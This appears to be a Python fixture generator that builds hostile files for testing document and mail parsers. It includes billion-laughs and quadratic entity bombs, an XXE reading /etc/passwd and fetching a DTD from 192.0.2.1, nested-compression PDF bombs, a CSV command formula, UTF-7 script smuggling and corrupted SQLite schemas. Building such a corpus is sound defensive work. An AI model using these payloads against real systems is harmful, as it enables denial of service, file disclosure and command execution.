"""Documents, mail and text that loop, nest, repeat or cost a careless reader its time."""

from __future__ import annotations

import base64
import io
import json
import random
import sqlite3
import struct
import zipfile
import zlib

_CONTENT = b"application/vnd.openxmlformats-officedocument."
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = (
    b"<!DOCTYPE x [<!ENTITY a0 'lol'>"
    + b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    + b"]>"
)
OUTSIDE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>'


def package(parts: dict[str, bytes]) -> bytes:
    """Parts as a ZIP with fixed times."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def office(kind: str, main: str, parts: dict[str, bytes]) -> bytes:
    """An OOXML package with these parts."""
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    types += b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    types += b'<Override PartName="/%s" ContentType="%s%s.main+xml"/></Types>' % (
        main.encode(),
        _CONTENT,
        kind.encode(),
    )
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    )
    relations += b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    relations += b'Target="%s"/></Relationships>' % main.encode()
    return package({"[Content_Types].xml": types, "_rels/.rels": relations, **parts})


def word(body: bytes, before: bytes = b"") -> bytes:
    xml = before + b"<w:document %s><w:body>%s</w:body></w:document>" % (_W, body)
    return office("wordprocessingml.document", "word/document.xml", {"word/document.xml": xml})


def sheet(rows: bytes, before: bytes = b"", shared: bytes = b"") -> bytes:
    book = b'<workbook %s xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>' % _S
    book += b'<sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    )
    relations += b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/s.xml"/>'
    relations += b"</Relationships>"
    one = before + b'<worksheet %s><dimension ref="A1:XFD1048576"/><sheetData>%s</sheetData></worksheet>' % (_S, rows)
    parts = {"xl/workbook.xml": book, "xl/_rels/workbook.xml.rels": relations, "xl/worksheets/s.xml": one}
    if shared:
        parts["xl/sharedStrings.xml"] = b"<sst %s>%s</sst>" % (_S, shared)
    return office("spreadsheetml.sheet", "xl/workbook.xml", parts)


def opendocument(kind: str, body: bytes, before: bytes = b"") -> bytes:
    names = b" ".join(
        b'xmlns:%s="urn:oasis:names:tc:opendocument:xmlns:%s:1.0"' % (n, n) for n in (b"office", b"table", b"text")
    )
    xml = before + b"<office:document-content %s><office:body>%s</office:body></office:document-content>" % (
        names,
        body,
    )
    return package({"mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(), "content.xml": xml})


def offices(weight: int) -> dict[str, bytes]:
    paragraph = b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>"
    row = b"<w:tr>" + (b"<w:tc>" + paragraph % b"+33 6 12 34 56 78" + b"</w:tc>") * 40 + b"</w:tr>"
    nest = 3000
    cells = (
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row r="1"><c r="ZZZZZZ99999999999"><v>2</v></c></row>'
    )
    wide = b'<table:table-row table:number-rows-repeated="1000000000"><table:table-cell '
    wide += b'table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell></table:table-row>'
    spaces = b'<office:text><text:p>a<text:s text:c="2000000000"/>b</text:p></office:text>'
    return {
        "laughs.docx": word(paragraph % b"&a11;", LAUGHS),
        "outside.docx": word(paragraph % b"&e;", OUTSIDE),
        "tables.docx": word(b"<w:tbl>" + row * (200 * weight) + b"</w:tbl>"),
        "nested.docx": word(b"<w:tbl><w:tr><w:tc>" * nest + b"</w:tc></w:tr></w:tbl>" * nest),
        "zeros.docx": word(b"<w:p/>" * (250_000 * weight)),
        "blank.docx": word(bytes(40_000_000 * weight)),
        "empty.docx": office("wordprocessingml.document", "word/document.xml", {}),
        "self.docx": office("wordprocessingml.document", "_rels/.rels", {}),
        "sparse.xlsx": sheet(cells),
        "shared.xlsx": sheet(
            b'<row r="1"><c r="A1" t="s"><v>-1</v></c><c t="s"><v>99999999999</v></c></row>', b"", b"<si><t>a</t></si>"
        ),
        "laughs.xlsx": sheet(b"<row><c><v>&a11;</v></c></row>", LAUGHS),
        "rows.xlsx": sheet(b'<row><c t="inlineStr"><is><t>call 0612345678</t></is></c></row>' * (6_000 * weight)),
        "wide.ods": opendocument(
            "spreadsheet", b"<office:spreadsheet><table:table>" + wide + b"</table:table></office:spreadsheet>"
        ),
        "spaces.odt": opendocument("text", spaces),
        "deep.odt": opendocument("text", b"<text:section>" * 20_000 + b"</text:section>" * 20_000),
        "laughs.odt": opendocument("text", b"<office:text><text:p>&a11;</text:p></office:text>", LAUGHS),
        "loop.epub": package(
            {
                "mimetype": b"application/epub+zip",
                "META-INF/container.xml": b'<container><rootfiles><rootfile full-path="META-INF/container.xml"/></rootfiles></container>',
            }
        ),
    }


def compound() -> dict[str, bytes]:
    """OLE containers: sector chains that return to themselves, a directory that is its own parent."""
    head = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", head, 44, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    struct.pack_into("<109I", head, 76, 0, *([0xFFFFFFFF] * 108))
    table = struct.pack("<128I", 0xFFFFFFFD, 2, 1, 3, *([0xFFFFFFFF] * 124))
    name = "Root Entry".encode("utf-16-le")
    entry = (
        name.ljust(64, b"\0")
        + struct.pack("<HBBIII", len(name) + 2, 5, 1, 0, 0, 0)
        + bytes(36)
        + struct.pack("<IQ", 3, 1 << 40)
    )
    folder = (entry * 4)[:512]
    whole = bytes(head) + table + folder + folder + bytes(512)
    struct.pack_into("<I", head, 68, 3)
    struct.pack_into("<I", head, 72, 0x7FFFFFFF)
    return {
        "chain.doc": whole,
        "chain.xls": whole,
        "chain.msg": whole,
        "difat.doc": bytes(head) + whole[512:],
        "cut.ppt": whole[:700],
    }


def pdf(objects: list[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), []
    for n, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, at))


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d %s>>\nstream\n%s\nendstream" % (len(data), more, data)


def pdfs(weight: int) -> dict[str, bytes]:
    root = b"<</Type/Catalog/Pages 2 0 R>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>"
    kids = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
    twice = zlib.compress(zlib.compress(bytes(100_000_000 * weight), 9), 9)
    form = stream(b"/F Do " * 20, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>")
    good = pdf([root, kids, page, stream(b"BT (call +33612345678) Tj ET"), form])
    at = good.rindex(b"startxref")
    marks = b"<</Title(x)/Parent 2 0 R/First 6 0 R/Next 6 0 R/Prev 6 0 R>>"
    return {
        "kids-loop.pdf": pdf([root, b"<</Type/Pages/Count 9/Kids[2 0 R 2 0 R 2 0 R]>>"]),
        "count.pdf": pdf([root, b"<</Type/Pages/Count 2000000000/Kids[3 0 R]>>", page, stream(b""), form]),
        "form-loop.pdf": pdf([root, kids, page, stream(b"/F Do"), form]),
        "double.pdf": pdf([root, kids, page, stream(twice, b"/Filter[/FlateDecode/FlateDecode]"), form]),
        "operators.pdf": pdf(
            [
                root,
                kids,
                page,
                stream(zlib.compress(b"q BT /F1 9 Tf (a) Tj ET Q\n" * (60_000 * weight)), b"/Filter/FlateDecode"),
                form,
            ]
        ),
        "prev-loop.pdf": good.replace(b"/Size 6", b"/Prev %d" % good.index(b"xref\n")),
        "size.pdf": good.replace(b"/Size 6 ", b"/Size 99999999999 "),
        "length.pdf": good.replace(b"/Length 28", b"/Length 99999999999"),
        "startxref.pdf": good[:at] + b"startxref\n-5\n%%EOF",
        "outline.pdf": pdf([b"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>", kids, page, stream(b""), form, marks]),
        "objstm.pdf": pdf(
            [
                b"<</Type/Catalog/Pages 2 0 R>>",
                kids,
                page,
                stream(b"", b"/Type/ObjStm/N 2000000000/First 2000000000/Extends 4 0 R"),
                form,
            ]
        ),
        "deep.pdf": pdf([b"[" * 100_000 + b"]" * 100_000, kids, page, stream(b""), form]),
        "pages.pdf": pdf(
            [root, b"<</Type/Pages/Count %d/Kids[%s]>>" % (3000, b"3 0 R " * 3000), page, stream(b"BT (a) Tj ET"), form]
        ),
        "names.pdf": pdf(
            [
                b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 6 0 R>>>>",
                kids,
                page,
                stream(b""),
                form,
                b"<</Kids[6 0 R 6 0 R]>>",
            ]
        ),
        "cut.pdf": good[:200],
    }


def mails(weight: int) -> dict[str, bytes]:
    head = b"From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
    part = b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n"
    multi = b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
    nest, messages = b"", b"the bottom"
    for n in range(600):
        nest += b'Content-Type: multipart/mixed; boundary="n%d"\r\n\r\n--n%d\r\n' % (n, n)
    for _ in range(60):
        messages = head + b"Content-Type: message/rfc822\r\n\r\n" + messages
    rng = random.Random(7)
    return {
        "parts.eml": head + multi + part * (1_000 if weight == 1 else 100_000) + b"--b--\r\n",
        "nested.eml": head + nest + b"\r\nx",
        "messages.eml": messages,
        "header.eml": head + b"X-Long: " + b"a" * (3_000_000 * weight) + b"\r\n\r\nbody",
        "folded.eml": head + b"Subject: a\r\n" + b" b\r\n" * (100_000 * weight) + b"\r\nbody",
        "headers.eml": head + b"".join(b"X-%d: v\r\n" % n for n in range(50_000 * weight)) + b"\r\nbody",
        "words.eml": head + b"Subject: " + b"=?utf-8?b?w6k=?= " * (20_000 * weight) + b"\r\n\r\nbody",
        "to.eml": b"From: a@example.org\r\nTo: " + b", ".join(b"u%d@example.org" % n for n in range(5_000 * weight)) + b"\r\nSubject: many\r\n\r\nbody",
        "comments.eml": b"From: " + b"(" * 50_000 + b"a@example.org\r\nSubject: x\r\n\r\nbody",
        "quotes.eml": b'From: "' + b'\\"' * 50_000 + b" <a@example.org>\r\nSubject: x\r\n\r\nbody",
        "base64.eml": head + b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(rng.randbytes(300_000)) + b"=" * 100_000,
        "charset.eml": head + b'Content-Type: text/plain; charset="' + b"x" * 5000 + b'"\r\n\r\n' + rng.randbytes(20_000),
        "boundary.eml": head + b'Content-Type: multipart/mixed; boundary=""\r\n\r\n' + b"--\r\n" * 5_000,
        "cut.eml": head + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b",
        "many.mbox": b"From a@b Thu Jan  1 00:00:00 2024\nFrom: a@example.org\nSubject: x\n\nbody\n\n" * (500 * weight),
        "froms.mbox": b"From a@b Thu Jan  1 00:00:00 2024\n" * (3_000 * weight),
        "winmail.dat": b"\x78\x9f\x3e\x22\1\0" + (b"\1\6\x90\x08\0" + b"\xff\xff\xff\x7f" + b"a" * 50) * 30,
        "fold.vcf": b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:x\r\n" + b"NOTE:" + b"\r\n y" * (100_000 * weight) + b"\r\nEND:VCARD\r\n",
        "open.vcf": b"BEGIN:VCARD\r\n" * 20_000,
        "rule.ics": b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDTSTART:00010101T000000Z\r\nRRULE:FREQ=SECONDLY;COUNT=999999999\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
    }  # fmt: skip


def texts(weight: int) -> dict[str, bytes]:
    n = 120_000 * weight
    rng = random.Random(11)
    digits = bytes(rng.choices(b"0123456789", k=n))
    letters = bytes(rng.choices(b"abcdefghijklmnopqrstuvwxyz", k=n))
    runs = {
        "digits": digits, "letters": letters, "spaced": b" ".join(digits[i : i + 1] for i in range(n // 2)),
        "pluses": b"+" * n, "phones": b"+33 6 12 34 56 78 " * (n // 40), "ats": b"a@" * (n // 2), "at": b"@" * n,
        "dots": b"1." * (n // 2), "words-dots": b"ab." * (n // 3), "slashes": b"http://" * (n // 7), "urls": b"http://a.fr/" + b"a/" * (n // 2),
        "colons": b"ab:" * (n // 3), "hyphens": b"a-" * (n // 2), "open": b"([{<" * (n // 4), "spaces": b" " * n, "tabs": b"\t" * n,
        "iban": b"FR76" * (n // 4), "hex": bytes(rng.choices(b"0123456789abcdef", k=n)), "base58": b"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa" * (n // 68),
        "coordinates": b"48.8566, 2.3522 " * (n // 32), "percent": b"%41" * (n // 3), "quoted": b'"' * n, "entities": b"&amp;" * (n // 5),
        "lines": b"\n" * n, "returns": b"\r" * n, "nulls": b"a\0" * (n // 2), "random": rng.randbytes(n // 2), "upper": letters.upper(),
    }  # fmt: skip
    found = {f"{name}.txt": data for name, data in runs.items()}
    marks = {
        "combining": "a" + "\u0301" * (n // 4), "zalgo": "a\u0300\u0323\u0489" * (n // 12), "tatweel": "محم" + "\u0640" * (n // 4),
        "arabic": "محمدبنعلي" * (n // 30), "arabic-digits": "٠٧٧٠١٢٣٤٥٦٧" * (n // 40), "bidi": "\u202e\u2066a\u2069\u202c" * (n // 24), "zero-width": "a\u200b" * (n // 8),
        "astral": "\U0001f600" * (n // 8), "names": "محمد بن " * (n // 20),
    }  # fmt: skip
    found |= {f"{name}.txt": text.encode() for name, text in marks.items()}
    found["surrogates.txt"] = b"\xff\xfe" + b"\x00\xd8" * (n // 8)
    found["formulas.csv"] = b"=cmd|' /C calc'!A0,+1,-1,@SUM(1)\n" * 2000
    found["wide.csv"] = b"a," * (n // 2) + b"\n" + b"1," * 1000
    found["quote.csv"] = b'"' + b"a,\n" * (n // 6)
    found["deep.json"] = b"[" * 100_000 + b"]" * 100_000
    found["keys.json"] = json.dumps({f"key{i}": "a@example.org" for i in range(n // 200)}).encode()
    found["number.json"] = b'{"a": ' + b"9" * n + b"}"
    return found


def markups(weight: int) -> dict[str, bytes]:
    deep = 60_000 * weight
    sets = b"<svg xmlns='http://www.w3.org/2000/svg'>"
    return {
        "deep.html": b"<html><body>" + b"<div>" * deep + b"a@example.org",
        "spans.html": b"<b><i><u><a href=x>" * (5_000 * weight) + b"x",
        "attributes.html": b"<p " + b"".join(b"a%d=1 " % n for n in range(20_000 * weight)) + b">x</p>",
        "tables.html": b"<table><tr><td>" * 3_000 + b"x",
        "comments.html": b"<!--" * 100_000,
        "script.html": b"<script>" + b"'" * 500_000,
        "meta.html": b"<meta charset=utf-7>" * 10_000 + b"+ADw-script+AD4-",
        "laughs.xml": b"<?xml version='1.0'?>" + LAUGHS + b"<x>&a11;</x>",
        "outside.xml": b"<?xml version='1.0'?>" + OUTSIDE + b"<x>&e;</x>",
        "deep.xml": b"<?xml version='1.0'?>" + b"<a>" * deep + b"</a>" * deep,
        "quadratic.xml": b"<!DOCTYPE x [<!ENTITY a '" + b"a" * 50_000 + b"'>]><x>" + b"&a;" * 20_000 + b"</x>",
        "laughs.svg": LAUGHS + sets + b"<text>&a11;</text></svg>",
        "use.svg": sets + b"<g id='a'>" + b"<use href='#a'/>" * 1000 + b"</g></svg>",
        "deep.kml": b"<kml xmlns='http://www.opengis.net/kml/2.2'>" + b"<Folder>" * 20_000,
        "points.gpx": b"<gpx xmlns='http://www.topografix.com/GPX/1/1'><trk><trkseg>" + b'<trkpt lat="48.8" lon="2.3"/>' * (5_000 * weight) + b"</trkseg></trk></gpx>",
        "deep.plist": b"<?xml version='1.0'?><plist>" + b"<array>" * 20_000,
        "loop.bplist": b"bplist00\xaf\x10\x01" + b"\xa1\x00" * 3 + bytes(3) + bytes(6) + b"\1\1" + (3).to_bytes(8, "big") + bytes(8) + (13).to_bytes(8, "big"),
        "groups.rtf": b"{\\rtf1 " + b"{" * 50_000 + b"x",
        "bin.rtf": b"{\\rtf1 \\bin2147483647 x" + b"\\bin99999999999999999999 " * 1000 + b"}",
        "unicode.rtf": b"{\\rtf1 \\uc99999 " + b"\\u-1 " * 20_000 + b"}",
        "object.rtf": b"{\\rtf1 {\\object\\objemb{\\*\\objdata " + b"0105000002000000ffffff7f" * 3_000 + b"}}}",
    }  # fmt: skip


def databases() -> dict[str, bytes]:
    """SQLite files: views without end, triggers, a schema that is a lie."""
    with sqlite3.connect(":memory:") as made:
        made.executescript(
            """create table contacts(name text, number text); insert into contacts values ('x', '+33612345678');
            create table messages(address text, body text, date int);
            create view calls as with recursive n(i) as (select 1 union all select i + 1 from n) select * from n;
            create trigger t after insert on contacts begin delete from messages; end;
            create index i on contacts(number);"""
        )
        made.execute(f"create table wide({','.join(f'c{n}' for n in range(1500))})")
        made.execute("insert into messages values (?, ?, 1)", ("+33612345678", "a" * 2_000_000))
        made.executemany("insert into contacts values (?, ?)", [(f"n{i}", f"+336{i:08}") for i in range(3000)])
        good = made.serialize()
        made.execute("pragma writable_schema = 1")
        made.execute("update sqlite_master set sql = 'create table contacts(' || ?  || ')'", ("(" * 5000,))
        made.commit()
        evil = made.serialize()
    made.close()
    return {
        "views.db": good, "schema.db": evil, "cut.db": good[:9000], "page.db": good[:16] + b"\0\1" + good[18:],
        "pages.db": good[:28] + b"\xff\xff\xff\xff" + good[32:],
    }  # fmt: skip


def build(weight: int) -> dict[str, bytes]:
    """Every document, message and text."""
    return {
        **offices(weight), **compound(), **pdfs(weight), **mails(weight), **texts(weight), **markups(weight), **databases()
    }  # fmt: skip
